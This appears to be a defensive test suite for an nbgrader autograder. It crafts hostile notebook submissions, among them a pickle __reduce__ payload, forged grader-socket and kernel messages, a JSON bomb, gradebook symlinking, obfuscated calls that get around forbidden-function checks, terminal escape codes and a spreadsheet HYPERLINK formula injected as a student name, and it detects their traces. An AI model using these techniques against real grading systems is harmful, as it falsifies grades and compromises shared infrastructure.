import glob, json, os, pickle, socket, struct, threading
paths = []
if "AUTOGRADER_SOCKET" in os.environ:
    folder = os.path.dirname(os.environ["AUTOGRADER_SOCKET"])
    paths = sorted(glob.glob(os.path.join(glob.escape(folder), "*")))
class Harm:
    def __reduce__(self):
        return open, ("@COURSE@/canary/@NAME@", "w")
def frame(value, body=b"", size=None):
    header = value if isinstance(value, bytes) else json.dumps(value).encode()
    return struct.pack(">II", len(header) if size is None else size, len(body)) + header + body
def say(message, wait=0.05):
    for path in paths:
        try:
            with socket.socket(socket.AF_UNIX) as line:
                line.settimeout(wait)
                line.connect(path)
                line.sendall(message)
                line.recv(100_000)
        except OSError:
            pass
"""
extra("own", "socket-garbage", "Everything but a question is sent to the grader's socket.",
      SOCKETS + """
for message in (b"", b"GET / HTTP/1.1", b"\\x00" * 64, b"\\xff" * 64, pickle.dumps(Harm()),
                frame(b"[" * 100_000), frame(b"NaN"), frame(b'{"open": 1}'),
                frame(b'{"judge": []}'),
                frame(pickle.dumps(Harm())), frame({"open": "x" * 1_000_000}),
                frame(b"{}", size=2**32 - 1), frame({"dict": {"judge": "convolution/conv2d/bias",
                "outcomes": {"tuple": [{"tensor": "float64", "shape": [2**60, 2**60]}]}}}),
                frame({"tensor": "float64", "shape": [-1]}), frame({"tensor": "object"})):
    say(message)
""", at="im2col")
attack("own", "socket-forged", "Answers the grader's questions by hand, with whatever may pass.",
       every(SOCKETS + """
class Remote:
    def open(self, name):
        for _ in range(2):
            say(frame({"dict": {"open": name}}), wait=2)
        nothing = {"dict": {"value": None}}
        number = {"dict": {"value": {"tensor": "float64", "shape": []}}}
        nan = {"dict": {"value": float("nan")}}
        passed = {"dict": {"passed": True, "value": True}}
        error = {"dict": {"error": {"dict": {"types": {"tuple": []}, "message": "", "line": ""}}}}
        for outcome in (nothing, passed, number, nan, error):
            for count in (0, 1, 2, 3, 4, 7):
                say(frame({"dict": {"judge": name, "outcomes": {"tuple": [outcome] * count}}},
                          bytes(8 * count)), wait=2)
        return [], ()
    def judge(self, name, outcomes):
        return None
from autograder import checking
checking.attach(Remote())
"""), seconds=60)
attack("own", "json-bomb", "Sends 60 MB of empty dictionaries to the grader, as an answer.",
       every(SOCKETS + """
say(frame(b'{"tuple": [' + b"{}," * 19_000_000 + b"{}]}"), wait=20)
"""), seconds=60)
extra("own", "holds-the-line", "Connects to the grader, and says one byte a second.", SOCKETS + """
def hold():
    for path in paths:
        try:
            line = socket.socket(socket.AF_UNIX)
            line.connect(path)
            for _ in range(100):
                line.sendall(b"\\x00")
                time.sleep(1)
        except OSError:
            pass
import time
for _ in range(8):
    threading.Thread(target=hold, daemon=True).start()
""", score=(0, FULL), limits=True, seconds=75)
extra("own", "children-hold-sockets", "Five forked children keep the kernel's sockets open.", """
import os, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        time.sleep(90)
        os._exit(0)
""")
extra("own", "links-in-runtime", "Files that the kernel shares become links to the gradebook.", f"""
import os
from ipykernel import get_connection_file
folder = os.path.dirname(get_connection_file())
own = folder == os.path.dirname(os.environ.get("AUTOGRADER_SOCKET", ""))
for name in os.listdir(folder) if own else ():
    if "kernel" in name or name.endswith((".sock", ".json")):
        try:
            os.remove(os.path.join(folder, name))
            os.symlink("{GRADEBOOK}", os.path.join(folder, name))
        except OSError:
            pass
for number in range(20_000 if own else 0):
    open(os.path.join(folder, f"{{number}}.txt"), "w").close()
""", score=(0, FULL), stock=False, seconds=60)
extra("own", "spams-messages", "A thread sends messages of a megabyte each, for ever.", """
import threading, time
mine = get_ipython().kernel
parent = mine.get_parent()
def spam():
    while True:
        content = {"comm_id": "x", "data": {"x": "x" * 1_000_000}}
        mine.session.send(mine.iopub_socket, "comm_msg", content, parent)
        time.sleep(0.01)
threading.Thread(target=spam, daemon=True).start()
""", score=(FULL - 4, FULL), limits=True, seconds=75)
attack("own", "forged-messages", "Says that each cell is done before it has run.", every("""
mine = get_ipython().kernel
def forge(*args):
    parent = mine.get_parent()
    for kind, content in (("execute_result", {"data": {"text/plain": "1.0"}, "metadata": {},
                                              "execution_count": 1}),
                          ("status", {"execution_state": "idle"})):
        mine.session.send(mine.iopub_socket, kind, content, parent)
get_ipython().events.register("pre_run_cell", forge)
"""), seconds=75, limits=True)
CHANNEL = """
import json, os, struct
def frame(kind, content):
    body = json.dumps([kind, content]).encode()
    return struct.pack(">I", len(body)) + body
def say(*frames):
    try:
        os.write(3, b"".join(frames))
    except OSError:
        pass
shown = frame("execute_result", {"data": {"text/plain": "1.0"}, "metadata": {},
                                 "execution_count": 1})
idle = frame("idle", {"execution_count": 1})
"""
attack("own", "frames-on-the-channel", "Writes the kernel's own words for a result and an end of "
       "each cell on its line to the grader.", every(CHANNEL + """
get_ipython().events.register("pre_run_cell", lambda *args: say(shown, idle))
"""), limits=True, seconds=75)
attack("own", "answers-for-the-kernel", "A cell never ends: it reads the next cells from the line "
       "to the grader, and answers that each has passed.", every(CHANNEL + """
say(idle)
try:
    while head := os.read(3, 4):
        length = struct.unpack(">I", head)[0]
        while length:
            length -= len(os.read(3, length))
        say(shown, idle)
except (OSError, struct.error):
    pass
"""), limits=True, seconds=75)
for own, other in (("first", "second"), ("second", "first")):
    extra("own", f"leaves-and-looks-{own}", f"The {own} of two that leave files, shared memory, a "
          "socket and a process, and look for those of the other.", f"""
import ctypes, os, socket, tempfile, time
seen, libc, keys = [], ctypes.CDLL(None), {{"first": 4711, "second": 4712}}
if libc.shmget(keys["{other}"], 4096, 0) >= 0:
    seen.append("memory")
libc.shmget(keys["{own}"], 4096, 0o1666)
for folder in (tempfile.gettempdir(), "/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()):
    try:
        seen += [name for name in os.listdir(folder) if name == "left-by-{other}"]
        open(os.path.join(folder, "left-by-{own}"), "w").close()
    except OSError:
        pass
with socket.socket(socket.AF_UNIX) as line:
    if line.connect_ex("\\0left-by-{other}") == 0:
        seen.append("socket")
for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{{number}}/comm") as file:
            seen += ["process"] * (file.read().strip() == "left-by-{other}")
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    with open("/proc/self/comm", "w") as file:
        file.write("left-by-{own}")
    line = socket.socket(socket.AF_UNIX)
    line.bind("\\0left-by-{own}")
    line.listen()
    time.sleep(60)
    os._exit(0)
print("seen of the {other}:", seen)
""", says=rf"seen of the {other}: \[\]", limits=True, seconds=75, stock=False)
extra("own", "writes-on-terminal", "Writes on the terminal of whoever grades.", """
import os, sys
for place in (1, 2, getattr(sys.stdout, "_original_stdstream_copy", 1), "/dev/tty", "/dev/console"):
    try:
        if isinstance(place, str):
            place = os.open(place, os.O_WRONLY | os.O_NOCTTY)
        os.write(place, b"FORGED-@NAME@\\n")
    except OSError:
        pass
""")
inside("own", "pickled-object", "A function returns an object that does harm when unpickled.", """
class Harm:
    def __reduce__(self):
        return open, ("@COURSE@/canary/@NAME@", "w")
return Harm()
""")
for name, what, value in (
    ("deep-value", "A function returns a list of 50,000 lists in each other.",
     "value = []\nfor _ in range(50_000):\n    value = [value]\nreturn value"),
    ("huge-value", "A function returns a view with 10¹¹ entries of one number.",
     "return torch.zeros(1).expand(10**11)"),
    ("huge-number", "A function returns a number of 20,000 digits.", "return 10**20_000"),
    ("not-a-number", "A function returns NaN.", "return float('nan')"),
    ("odd-tensor", "A function returns a sparse tensor.", "return torch.eye(3).to_sparse()"),
    ("meta-tensor", "A function returns a tensor without data.",
     "return torch.zeros((), device='meta')"),
    ("long-error", "A function raises an error with a text of 50 MB.",
     "raise RuntimeError('x' * 50_000_000)"),
    ("error-without-text", "A function raises an error whose text raises an error.",
     "class Bad(Exception):\n    __str__ = __repr__ = lambda self: 1 / 0\nraise Bad()"),
    ("surrogate-error", "A function raises an error with half a character in its text.",
     r"raise RuntimeError('\ud83d')"),
    ("surrogate-print", "A function prints half a character.",
     "import sys\nsys.stdout.write('\\ud83d')\nreturn '\\ud83d'"),
    ("kills-itself", "A function sends its process the signal TERM.",
     "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)\nraise RuntimeError"),
    ("control-characters", "A function raises an error that would clear a terminal.",
     r"raise RuntimeError('\x1b[2J\x1b]0;a\x07\n  This is what comes out when \x1b[1mit is.')"),
):
    inside("own", name, what, value, seconds=60)
inside("own", "stops-itself", "A function stops its own process.", """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
while True:
    pass
""", limits=True, seconds=75, says="longer than")


@case("own", (0, FULL), limits=True, seconds=75)
def sleeps_and_dies(place):
    """A right notebook with cells that sleep and cells that kill the kernel, in turn."""
    notebook = place.right()
    for at in range(10):
        code = "import os\nos._exit(1)" if at % 2 else "import time\ntime.sleep(@LIMIT@ * 0.5)"
        notebook.cells.insert(4, nbformat.v4.new_code_cell(place.fill(f"{code}  # {at}")))
    place.put(notebook)


# ---- functions that the assignment forbids -------------------------------------------------------

WRAPPED = """
def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    x, weight = x.to(torch.result_type(x, weight)), weight.to(torch.result_type(x, weight))
    return {}
"""
CALL = "(x, weight, bias, stride, padding, dilation)"
THREADED = """
import threading
def aside(function, *args):
    result = []
    thread = threading.Thread(target=lambda: result.append(function(*args)))
    thread.start()
    thread.join()
    return result[0]
"""
for name, what, before, expression in (
    ("forbidden", "Calls F.conv2d, which the assignment forbids.", "", "F.conv2d" + CALL),
    ("forbidden-getattr", "Calls F.conv2d by a name put together from parts.", "",
     "getattr(F, 'con' + 'v2d')" + CALL),
    ("forbidden-alias", "Keeps F.conv2d under another name before any check runs.",
     "slide = F.conv2d", "slide" + CALL),
    ("forbidden-operator", "Calls the operator beneath F.conv2d.", "",
     "torch.ops.aten.convolution(x, weight, bias, pair(stride), pair(padding), pair(dilation), "
     "False, (0, 0), 1)"),
    ("forbidden-layer", "Lets an nn.Conv2d do the work.", "",
     "torch.func.functional_call(nn.Conv2d(weight.shape[1], weight.shape[0], weight.shape[2:], "
     "stride, padding, dilation, bias=bias is not None, dtype=x.dtype), "
     "{'weight': weight} | ({} if bias is None else {'bias': bias}), (x,))"),
    ("forbidden-thread", "Calls F.conv2d in another thread, by a name put together from parts.",
     THREADED, "aside(getattr(F, 'con' + 'v2d'), x, weight, bias, stride, padding, dilation)"),
    ("forbidden-magic", "The same, in a cell that is not plain Python.",
     "%matplotlib inline\n" + THREADED,
     "aside(F.conv2d, x, weight, bias, stride, padding, dilation)"),
    ("forbidden-unblocked", "Replaces the driver that forbids, then calls F.conv2d by parts.",
     "from autograder import checking\ndrive = checking.drive\n"
     "checking.drive = lambda driver, fn, args, kwargs, *rest: drive(driver, fn, args, kwargs)",
     "getattr(F, 'con' + 'v2d')" + CALL),
    ("forbidden-hidden", "Calls F.conv2d in another thread, from source that is encoded.",
     THREADED + "import base64\nhidden = eval(base64.b64decode(b'Ri5jb252MmQ='))",
     "aside(hidden, x, weight, bias, stride, padding, dilation)"),
):
    attack("own", name, what, before.strip() + WRAPPED.format(expression), or_flagged=True)


@case("own", FULL - 5, or_flagged=True)
def forbidden_autograd(place):
    """All is right, but conv2d_backward asks autograd."""
    notebook = place.right()
    cell(notebook, "conv2d_backward").source = """
def conv2d_backward(grad_output, x, weight, stride=1, padding=0):
    bias = torch.zeros(len(weight), dtype=x.dtype)
    leaves = [t.detach().requires_grad_() for t in (x, weight, bias)]
    out = conv2d(*leaves, stride, padding)
    return torch.autograd.grad(out, leaves, grad_output)
""".strip()
    place.put(notebook)


# ---- bad luck: all of these are right ------------------------------------------------------------


@case("24", FULL)
def warns(place):
    """Right code that warns on stderr at every call."""
    notebook = place.right()
    conv = cell(notebook, "conv2d")
    at = "    (sH, sW), (pH, pW), (dH, dW)"
    conv.source = conv.source.replace(at, """    import sys, warnings
    warnings.warn(f"{x.dtype} is slow")
    print("[W NNPACK.cpp:61] Could not initialize NNPACK!", file=sys.stderr)
""" + at)
    place.put(notebook)


@case("luck", FULL)
def talks(place):
    """Right code that prints 30 lines at every call."""
    notebook = place.right()
    for name in ("conv_out_size", "im2col"):
        lines = cell(notebook, name).source.splitlines()
        at = next(i for i, line in enumerate(lines) if i and line.strip() == '"""') + 1
        lines.insert(at, "    for step in range(30):\n        print('step', step)")
        cell(notebook, name).source = "\n".join(lines)
    place.put(notebook)


@case("luck", FULL)
def other_styles(place):
    """Right answers in NumPy's manner and others, from a module pasted into one cell."""
    import inspect

    import right_convolution

    notebook = place.right()
    for name, variants in right_convolution.RIGHT.items():
        cell(notebook, name).source = f"{name} = {variants[-1].__name__}"
    source = inspect.getsource(right_convolution).split("\nRIGHT = ")[0]
    notebook.cells.insert(4, nbformat.v4.new_code_cell(source))
    place.put(notebook)


@case("luck", FULL)
def from_colab(place):
    """Saved by Colab, with its metadata, a form, a drive that is not there and pip."""
    notebook = place.right()
    for number, c in enumerate(notebook.cells):
        c.metadata.update(id=f"aB{number}", colab={"base_uri": "https://localhost:8080/"})
        c.pop("id")
    notebook.update(nbformat_minor=0)
    notebook.metadata = {"colab": {"provenance": []}, "accelerator": "GPU",
                         "kernelspec": {"name": "python3", "display_name": "Python 3"}}
    added = ('#@title Settings { display-mode: "form" }\nfrom google.colab import drive\n'
             "drive.mount('/content/drive')")
    notebook.cells.insert(4, nbformat.v4.new_code_cell(added))
    notebook.cells.insert(5, nbformat.v4.new_code_cell("!pip install torch"))
    place.put(notebook)


@case("luck", FULL)
def from_vscode(place):
    """Saved by VS Code on Windows: other metadata, the ends of lines, tabs for spaces."""
    notebook = place.right()
    for c in notebook.cells:
        c.metadata["vscode"] = {"languageId": "python"}
        if c.metadata.get("nbgrader", {}).get("solution"):
            lines = c.source.split("\n")
            narrow = [len(line) - len(line.lstrip(" ")) for line in lines]
            c.source = "\r\n".join("\t" * (n // 4) + " " * (n % 4) + line.lstrip(" ")
                                   for n, line in zip(narrow, lines, strict=True))
    notebook.metadata["language_info"] = {"name": "python", "version": "3.12.1"}
    place.put(json.dumps(notebook, indent=1).replace("\n", "\r\n").encode())


@case("luck", FULL)
def untidy(place):
    """Names of Python's own are taken, the folder is another, stdout is gone, input() is asked."""
    notebook = place.right()
    for code in ("input_name = input('Your name? ')",
                 "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'",
                 "sum = 0\nmax = 3\ntype = id = None\ncheck = autograder = 'mine'",
                 "import os, sys\nos.chdir('/')\nsys.stdout = open(os.devnull, 'w')",
                 "import numpy as np\nnp.seterr(all='raise')",
                 "torch.set_default_dtype(torch.float64)",
                 "caf\u00e9 = '\U0001f600'  # \U0001f680",
                 "%xmode Verbose",
                 "this is not Python"):
        notebook.cells.insert(4, nbformat.v4.new_code_cell(code))
    for name in ("conv2d", "im2col"):
        cell(notebook, name).source = "%%time\n" + cell(notebook, name).source
    place.put(notebook)


edited("luck", FULL, "answer-as-text", "One answer was turned into a text cell by a slip.",
       lambda nb: cell(nb, "conv2d").update(cell_type="markdown"))
edited("luck", FULL, "same-ids", "All cells have the same id.",
       lambda nb: [c.update(id="cell") for c in nb.cells] and None)
edited("luck", FULL, "newer-format", "The file says that its format is 5.",
       lambda nb: nb.update(nbformat=5))
edited("luck", FULL, "long-line", "An answer holds a comment of 100,000 characters.",
       lambda nb: cell(nb, "conv2d").update(
           source=cell(nb, "conv2d").source + "\n# " + "x" * 100_000))
edited("own", 0, "huge-source", "An answer holds a comment of 5 MB.",
       lambda nb: cell(nb, "conv2d").update(
           source=cell(nb, "conv2d").source + "\n# " + "x" * 5_000_000),
       says="more than 5,000 cells or 300,000 characters")
edited("luck", FULL, "formula-name", "The student's name is a formula of a spreadsheet.",
       lambda nb: nb, person=('=HYPERLINK("http://127.0.0.1/?" & A1, "marks")', 'A, "B"'))
edited("luck", FULL, "jos\u00e9 mar\u00eda", "The student's name has a space and accents.",
       lambda nb: nb)


# ---- grading a batch, and watching what it touches -----------------------------------------------

SETTLE = 6  # seconds after which what was left running has done its worst
LARGE = 50_000_000  # bytes of a file that nobody asked for


@dataclass
class Report:
    """What came of a batch.

    `scores` has a number for each student that has one, `graded` those with a graded notebook,
    `waiting` those of whom a person must mark something. `seconds` says how long each took, `text`
    all that their graded notebooks say. `harm` has one line for each trace found where none
    belongs, with the case's name where it can be told.
    """

    code: int | None = None
    log: str = ""
    total: float = 0.0
    memory: int = 0  # bytes, of the process that grades
    scores: dict = field(default_factory=dict)
    graded: set = field(default_factory=set)
    waiting: set = field(default_factory=set)
    seconds: dict = field(default_factory=dict)
    text: dict = field(default_factory=dict)
    harm: list = field(default_factory=list)


def run_batch(course, cases, limit=30, timeout=1500):
    """Hand in `cases` and the two right notebooks, grade them all in one run; return a `Report`.

    `limit` is how many seconds a cell may take in this course, and `timeout` how many the whole
    batch may take before it is killed. Whatever its kernels leave running becomes a child of this
    process, and is killed at the end: call it where no other child is awaited.
    """
    report, heard = Report(), []
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    (course.root / "canary").mkdir()
    (course.root / "canary").chmod(0o777)
    scratch = tempfile.mkdtemp(prefix="hb-")
    with listening(heard) as port:
        places = {case.name: Place(course, case.name, port, limit) for case in cases}
        hand_in_honest(course)
        _prepare(course, cases, places, scratch)
        before, started = _files(course), time.time()
        _grade(course, report, scratch, timeout)
        settled = time.monotonic() + SETTLE
        while time.monotonic() < settled and psutil.Process().children():
            time.sleep(0.2)
    report.harm += _left_running()
    _read(course, report, started)
    for case in cases:
        if case.page:
            report.harm += [f"{case.name}: {line}" for line in _page(course, case.name)]
    if any(case.person for case in cases):
        report.harm += _exported(course)
    report.harm += _harm(course, report, before, heard, scratch)
    shutil.rmtree(scratch, ignore_errors=True)
    return report


@contextlib.contextmanager
def listening(heard):
    """Somebody on this machine's network, on the port that comes out, who notes what is said."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        def listen():
            with contextlib.suppress(OSError):
                while True:
                    visitor, _ = server.accept()
                    with visitor:
                        visitor.settimeout(5)
                        heard.append(visitor.recv(200).decode("utf-8", "replace"))

        threading.Thread(target=listen, daemon=True).start()
        yield server.getsockname()[1]


def _prepare(course, cases, places, scratch):
    """Earlier submissions, graded; then the names and the submissions of the batch itself."""
    for case in cases:
        if case.first:
            case.first(places[case.name])
            nbgrader(course.root, "autograde", SLUG, "--student", case.name, TMPDIR=scratch)
    with course.gradebook() as gradebook:
        for case in cases:
            if case.person:
                first, last = case.person
                gradebook.update_or_create_student(case.name, first_name=first, last_name=last)
    for case in cases:
        case.write(places[case.name])


def _grade(course, report, scratch, timeout):
    """Run nbgrader over the batch, and kill it when it takes too long."""
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    begun = time.monotonic()
    with tempfile.TemporaryFile() as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "nbgrader", "autograde", SLUG, "--force"], cwd=course.root,
            stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True,
            env={**os.environ, "PATH": path, "TMPDIR": scratch})
        killer = threading.Timer(timeout, os.killpg, (process.pid, signal.SIGKILL))
        killer.start()
        _, status, usage = os.wait4(process.pid, 0)
        killer.cancel()
        process.returncode = report.code = os.waitstatus_to_exitcode(status)
        log.seek(0)
        report.log = log.read().decode("utf-8", "replace")
    report.total, report.memory = time.monotonic() - begun, usage.ru_maxrss * 1024


def _read(course, report, started):
    """Scores from the gradebook, words and times from the graded notebooks."""
    with course.gradebook() as gradebook:
        for submission in gradebook.assignment_submissions(SLUG):
            report.scores[submission.student_id] = submission.score
            if submission.needs_manual_grade:
                report.waiting.add(submission.student_id)
    ends = {}
    for student in report.scores:
        path = course.notebook("autograded", SLUG, student)
        if path.is_file():
            report.graded.add(student)
            report.text[student] = _words(path)
            ends[student] = path.stat().st_mtime
    for student in sorted(ends, key=ends.get):
        report.seconds[student], started = ends[student] - started, ends[student]


def _words(path):
    """What a graded notebook says outside of its code: text cells, metadata, outputs."""
    with contextlib.suppress(ValueError):
        notebook = json.loads(path.read_text())
        return json.dumps([notebook.get("metadata"), *(
            c.get("outputs") if c.get("cell_type") == "code" else c.get("source")
            for c in notebook["cells"])], ensure_ascii=False)
    return ""


def _files(course):
    """What every file of the course holds, but for what grading writes."""
    found = {}
    skip = {course.folder("autograded"), course.folder("feedback"), course.root / "canary"}
    for folder, folders, names in os.walk(os.fsencode(course.root)):
        folders[:] = [f for f in folders if Path(os.fsdecode(os.path.join(folder, f))) not in skip
                      and f != b"__pycache__"]
        for name in names + folders:
            path = os.path.join(folder, name)
            about = os.lstat(path)
            kind = stat.S_IFMT(about.st_mode)
            if stat.S_ISREG(about.st_mode) and b"gradebook.db" not in name:
                with open(path, "rb") as file:
                    kind = hashlib.file_digest(file, "sha256").hexdigest()
            elif stat.S_ISLNK(about.st_mode):
                kind = os.readlink(path)
            found[os.fsdecode(os.path.relpath(path, os.fsencode(course.root)))] = kind
    return found


def _harm(course, report, before, heard, scratch):
    """Traces of the batch where none belong, one line each."""
    after = _files(course)
    for path in sorted(before.keys() | after.keys()):
        if before.get(path) != after.get(path) and "gradebook.db" not in path:
            yield f"{path} was changed"
    for path in sorted((course.root / "canary").iterdir()):
        yield f"{path.name}: wrote into the course"
    for name in heard:
        yield f"{name}: reached the network"
    for name in sorted(set(re.findall(r"FORGED-(\S+)", report.log))):
        yield f"{name}: wrote on the terminal"
    for student in HONEST:
        path = course.notebook("autograded", SLUG, student)
        if path.is_file() and path.stat().st_size < 10_000:
            yield f"autograded/{student} was changed"
    for folder, _, names in os.walk(os.fsencode(course.folder("autograded"))):
        for name in names:
            if os.lstat(os.path.join(folder, name)).st_size > LARGE:
                yield f"{Path(os.fsdecode(folder)).parent.name}: a file of more than 50 MB"
    yield from (f"left in the folder for temporary files: {name}" for name in os.listdir(scratch))


def _left_running():
    """Name what the kernels left running, and end it."""
    names, left = {case.name for case in CASES}, []
    for process in psutil.Process().children(recursive=True):
        with contextlib.suppress(psutil.Error):
            words = process.cmdline()
            if process.status() == psutil.STATUS_ZOMBIE or "resource_tracker" in " ".join(words):
                continue
            left.append(process)
            who = next((w for w in [*words, *process.cwd().split("/")] if w in names), None)
            yield f"{who}: left a process" if who else f"left running: {' '.join(words)[-90:]}"
    for process in left:
        with contextlib.suppress(psutil.Error):
            process.kill()
    with contextlib.suppress(ChildProcessError):
        while os.waitpid(-1, os.WNOHANG)[0]:
            pass


class _Active(html.parser.HTMLParser):
    """Finds what a browser would run of a student's: `found`."""

    def __init__(self):
        super().__init__()
        self.found, self.script = [], False

    def handle_starttag(self, tag, attrs):
        self.script = tag == "script"
        for name, value in attrs:
            runs = name.startswith("on") or (value or "").strip().lower().startswith("javascript:")
            if runs and "canary" in value:
                self.found.append(f"a script in {tag} {name}")

    def handle_data(self, data):
        if self.script and "canary" in data:
            self.found.append("a script")

    def handle_endtag(self, tag):
        self.script = False


def _page(course, student):
    """Scripts of the student's that run in the feedback page, one line each."""
    result = course.api.generate_feedback(SLUG, student, force=True)
    page = course.folder("feedback", SLUG, student) / f"{SLUG}.html"
    if not result["success"] or not page.is_file():
        return ["there is no feedback page"]
    parser = _Active()
    parser.feed(page.read_text())
    return [f"{line} runs in the feedback page" for line in sorted(set(parser.found))]


def _exported(course):
    """What a spreadsheet would take for a formula in the exported marks, or for another column."""
    path = course.root / "marks.csv"
    run = nbgrader(course.root, "export", "--to", str(path))
    if run.returncode or not path.is_file():
        return ["the marks cannot be exported"]
    with open(path, newline="") as file:
        rows = list(csv.DictReader(file))
    path.unlink()
    found = []
    for row in rows:
        if None in row or None in row.values():
            found.append(f"{row['student_id']}: shifts the columns of the exported marks")
        for value in row.values():
            if isinstance(value, str) and value[:1] in "=+-@\t\r" and value[1:2].isalpha():
                found.append(f"{row['student_id']}: a formula in the exported marks")
    return found
